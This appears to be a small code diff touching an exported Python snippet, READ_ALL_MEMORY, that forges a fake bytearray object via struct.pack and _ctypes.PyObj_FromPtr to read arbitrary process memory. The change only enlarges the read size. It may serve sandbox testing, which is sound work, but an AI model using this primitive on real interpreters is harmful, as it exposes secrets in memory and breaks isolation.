@@ -13,5 +13,5 @@ export const READ_ALL_MEMORY = py`
   # refcount, type, size, allocated, buffer, start, exports
   forged = struct.pack('<IIiiIIi', 0x3fffffff, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0) + bytes(16)
   memory = _ctypes.PyObj_FromPtr(id(forged) + bytes.__basicsize__ - 1)
-  SIZE = 24 << 20
+  SIZE = 30 << 20
 `
